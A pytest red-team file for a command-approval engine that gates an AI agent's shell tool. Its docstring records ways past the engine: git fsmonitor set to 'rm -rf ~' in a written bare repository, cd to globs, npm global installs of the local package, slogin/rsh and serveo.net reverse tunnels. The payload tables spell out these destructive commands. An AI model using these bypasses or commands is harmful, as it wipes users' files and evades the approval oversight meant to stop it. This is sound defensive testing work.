"""adv43b (stop 43, issue 8): the adversary of stop 43's changes (fp43's false-alarm fixes above all).

Found and fixed (each was allowed, and did the harm under a real bash, before):

1. GIT IN A FOLDER KNOWN ONLY AT RUN TIME: fp43 let git's reading verbs run in a folder the line does not name
   (`cd "$D" && git status`), but a program's project files there were looked up at the project's top only (`config`,
   not `d/config`): a bare repository the session wrote (`d/HEAD`, `d/objects/`, `d/refs/`, `d/config` holding
   `worktree = ..` and `fsmonitor = rm -rf ~`) ran the fsmonitor on `cd "$D" && git status` (also `git -C "$D"
   status`). A `files:` run in such a folder now reads every written file of the name (`**/config`): the hardline.
2. `cd GLOB`: `cd d* && git status` (and `cd d* && npm test`, `cd d* && make` with a written d/package.json,
   d/Makefile; `git -C d* status`) was read in a folder literally named `d*`, which holds nothing written: allowed,
   and ran the written files. A glob's folder is now one known only at run time (see 1).
3. `npm install -g NAME` (fp43: operands skip the working folder's package): an operand that is the working folder's
   package under another spelling installed its bins on the PATH, allowed: `npm pack && npm i -g a-1.0.0.tgz` (also
   `*.tgz`, `a@file:.`, `a@.`, `git+file://$PWD`, `../proj`). An operand that is not a registry package's
   name[@version] now reads the working folder's package.json as no operand does (a written one asks).

4. SLOGIN (ssh's old name, a link to ssh here): `slogin h 'rm -rf ~'` and `slogin -R 8080:localhost:22 serveo.net`
   were allowed (the ssh row and the public_tunnel matchers named ssh only; no sshd here: verdicts only). slogin is
   now the ssh row's, and the tunnel and -F matchers name it.

Held (near misses below): git's reading verbs in an unknown folder when the session wrote no git directory (or one
without a setting that runs a program), `cd src* && ls`, a harmless written Makefile/package.json under `cd d*`,
`npm i -g typescript`, `@angular/cli`, `typescript@5.3.2`, `@vue/cli@^5`, two names.

Probed and held (no change): GIT_CONFIG_GLOBAL=/dev/null with GIT_CONFIG_SYSTEM / the GIT_CONFIG pairs / `-c
core.pager`, /dev/stdin and /proc/self/fd/0 of a written config, `<(...)`, `/dev//null`; quoted `$(` operands of
find -exec, xargs, ssh, su -c, sg, watch, tmux, script -c, at (all read); flock/dtach/nohup with one quoted word
exec it without a shell; HGRCPATH of a FIFO, /dev/zero, a self-including or 300-deep `%include` chain, `ssh -F` of a
FIFO or /dev/stdin fed a written config (asked or judged, no hang).

Closed by xf44 (tests/redteam/test_xf44.py; strict xfails here before): rsh (on Debian often an alternative for ssh;
not installed here) was read as nothing: `rsh h 'rm -rf ~'` was allowed. `yarn global add file:p` of a written
p/package.json whose postinstall is `rm -rf ~` was allowed (`yarn add file:p` is the hardline; yarn not installed).
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import make_home
from tests.redteam.harm import (
    Case,
    assert_verdict,
    bare_repository,
    home_intact,
    verdict_cases,
    written_then_allowed,
    written_then_stopped,
)

RUN = "\tworktree = ..\n\tfsmonitor = rm -rf ~\n"
PKG_BIN = '{"name": "a", "version": "1.0.0", "bin": {"ls": "x.sh"}}\n'
BIN = {"package.json": PKG_BIN, "x.sh": "#!/bin/sh\nrm -rf ~\n"}


def bare(config: str = "") -> dict[str, str]:
    """A bare repository written in d/ (the folder the payloads reach as `$D` or `d*`)."""
    return bare_repository(config, "d")


PAYLOADS: dict[str, Case] = {
    # 1. git's reading verbs in a folder known only at run time
    "cd-var-status": (bare(RUN), 'cd "$D" && git status'),
    "cd-var-log": (bare(RUN), 'cd "$D" && git log'),
    "cd-listed": (bare(RUN), "D=$(ls); cd $D && git status"),
    "git-C-var": (bare(RUN), 'git -C "$D" status'),
    "cd-var-include": (bare("[include]\n\tpath = ../y.cfg\n"), 'cd "$D" && git diff'),
    # 2. cd to a glob
    "cd-glob-status": (bare(RUN), "cd d* && git status"),
    "cd-glob-log": (bare(RUN), "cd d* && git log"),
    "git-C-glob": (bare(RUN), "git -C d* status"),
    "cd-glob-npm": ({"d/package.json": '{"scripts": {"test": "rm -rf ~"}}\n'}, "cd d* && npm test"),
    "cd-glob-make": ({"d/Makefile": "all:\n\trm -rf ~\n"}, "cd d* && make"),
    "cd-class-make": ({"d/Makefile": "all:\n\trm -rf ~\n"}, "cd [d] && make"),
    # 3. npm -g of the working folder's package under another spelling
    "npm-g-tarball": (BIN, "npm pack && npm i -g a-1.0.0.tgz"),
    "npm-g-tarball-glob": (BIN, "npm pack && npm i -g *.tgz"),
    "npm-g-tarball-path": (BIN, "npm pack && npm i -g typescript ./a-1.0.0.tgz"),
    "npm-g-alias-file": (BIN, "npm i -g a@file:."),
    "npm-g-alias-dot": (BIN, "npm i -g a@."),
    "npm-g-git-file": (BIN, "npm i -g typescript git+file://$PWD"),
    "npm-g-parent": (BIN, "npm i -g ../proj"),
    # 4. slogin, ssh under its old name
    "slogin-remote": ({}, "slogin h 'rm -rf ~'"),
    "slogin-remote-words": ({}, "slogin h cp x 'a$(rm -rf ~)b'"),
    "slogin-reverse-forward": ({}, "slogin -R 8080:localhost:22 serveo.net"),
    "slogin-open-forward": ({}, "slogin -L 0.0.0.0:8080:localhost:22 h"),
}

NEAR_MISSES: dict[str, Case] = {
    "cd-var-status": ({}, 'cd "$D" && git status'),
    "cd-var-status-written": ({"a.txt": "x\n"}, 'cd "$D" && git status'),
    "cd-var-plain-repo": (bare_repository(folder="d"), 'cd "$D" && git log'),
    "cd-var-other-config": ({"notes/config": "debug = true\n"}, 'cd "$D" && git status'),
    "git-C-var-log": ({"a.txt": "x\n"}, 'git -C "$D" log --oneline'),
    "cd-glob-plain-repo": (bare("[user]\n\tname = me\n"), "cd d* && git log"),
    "cd-glob-npm": ({"d/package.json": '{"scripts": {"test": "echo hi"}}\n'}, "cd d* && npm test"),
    "cd-glob-make": ({"d/Makefile": "all:\n\techo hi\n"}, "cd d* && make"),
    "cd-glob-ls": ({"src/a.txt": "x\n"}, "cd src* && ls"),
    "cd-glob-cat": ({"src/a.txt": "x\n"}, "cd src* && cat a.txt"),
    "cd-system-glob": ({}, "cd /usr/lib/python3* && ls"),
    "npm-g-name": (BIN, "npm i -g typescript"),
    "npm-g-scoped": (BIN, "npm i -g @angular/cli"),
    "npm-g-version": (BIN, "npm install -g typescript@5.3.2"),
    "npm-g-tag": (BIN, "npm i -g typescript@latest"),
    "npm-g-scoped-range": (BIN, "npm i -g @vue/cli@^5"),
    "npm-g-two": (BIN, "npm i -g eslint prettier"),
    "npm-g-dotted": (BIN, "npm i -g lodash.merge"),
    "npm-g-prefix": (BIN, "npm i -g typescript --prefix ~/.npm-global"),
    "slogin": ({}, "slogin h uptime"),
    "slogin-local-forward": ({}, "slogin -L 8080:localhost:80 h"),
    "slogin-version": ({}, "slogin -V"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(PAYLOADS, NEAR_MISSES))
def test_verdict(plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(plain_project, case, allowed, session)


# -- the harm under a real bash (a fake HOME), and the same through the engine's terminal ---------------------------
@pytest.mark.parametrize(
    "payload",
    ["cd d* && git status", "D=$(ls -d d); cd $D && git status", 'git -C "$(ls -d d)" status'],
    ids=["cd-glob", "cd-var", "git-C-var"],
)
def test_harm_written_bare_repository(tmp_path: Path, plain_harm: tuple[Engine, Path, Path], payload: str) -> None:
    engine, home, _ = plain_harm
    written_then_stopped(tmp_path, engine, home, bare(RUN), payload)


@pytest.mark.parametrize(
    ("files", "command"),
    [
        (bare_repository(folder="d"), 'D=d; cd "$D" && git log --oneline || true'),
        ({"d/a.txt": "x\n"}, "cd d* && cat a.txt"),
    ],
    ids=["plain-repo", "cd-glob-cat"],
)
def test_near_miss_runs(plain_harm: tuple[Engine, Path, Path], files: dict[str, str], command: str) -> None:
    engine, home, _ = plain_harm
    written_then_allowed(engine, files, command)
    assert (home / "notes.txt").is_file(), command


NPM_G = "npm pack -q && npm i -g --prefix ~/g --offline --no-audit --no-fund a-1.0.0.tgz"


@pytest.mark.skipif(not os.path.exists("/usr/bin/npm"), reason="npm is not installed")
def test_harm_npm_global_tarball(tmp_path: Path, plain_harm: tuple[Engine, Path, Path]) -> None:
    """`npm pack && npm i -g a-1.0.0.tgz` puts the written package's `ls` on the PATH (~/g/bin/ls); through the
    engine the line asks and nothing is installed."""
    home_live = make_home(tmp_path / "live")
    cwd = tmp_path / "live" / "cwd"
    cwd.mkdir()
    for name, text in BIN.items():
        (cwd / name).write_text(text)
    env = {"HOME": str(home_live), "PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    subprocess.run(["bash", "-c", NPM_G], env=env, cwd=cwd, capture_output=True, timeout=120, check=False)
    assert (home_live / "g" / "bin" / "ls").is_symlink(), "the payload should install the bin unguarded"
    engine, home, _ = plain_harm
    for name, text in BIN.items():
        assert engine.call("write_file", {"path": name, "content": text}, session_id="s1").ok
    result = engine.call("terminal", {"command": NPM_G}, session_id="s1")
    assert not result.ok and result.error is not None and result.error.type == "pending_approval", result.output
    assert not (home / "g").exists()
    assert home_intact(home)


def test_glob_folder_with_nothing_written_stays_allowed(plain_harm: tuple[Engine, Path, Path]) -> None:
    """The unknown folder reads written files only: a session that wrote none is not asked for `cd d* && git log`."""
    engine, home, _ = plain_harm
    result = engine.call("terminal", {"command": "mkdir -p d && cd d* && git status || true"}, session_id="s2")
    assert result.ok, result.error
    assert home_intact(home)
